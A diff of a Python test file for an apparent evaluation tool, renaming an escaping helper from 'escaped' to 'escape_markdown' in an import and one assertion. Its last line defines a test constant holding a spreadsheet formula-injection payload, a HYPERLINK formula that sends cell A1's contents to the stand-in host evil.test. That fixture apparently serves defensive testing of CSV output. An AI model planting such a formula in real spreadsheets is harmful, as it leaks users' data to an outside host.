@@ -11,7 +11,7 @@ import pytest
 
 from looktwice.eval import score_table
 from looktwice.eval.display.printable import csv_cell
-from looktwice.eval.display.text_tables import escaped
+from looktwice.eval.display.text_tables import escape_markdown
 from tests.first_day.studies import looktwice
 from tests.under_fire.scenes import RUN, ends, write_questions
 
@@ -83,7 +83,7 @@ def test_the_pages_hold_no_markup_of_others(run: Path) -> None:
     ],
 )
 def test_a_text_in_markdown_is_shown_as_it_is(text: str, shown: str) -> None:
-    assert escaped(text) == shown
+    assert escape_markdown(text) == shown
 
 
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"x")'
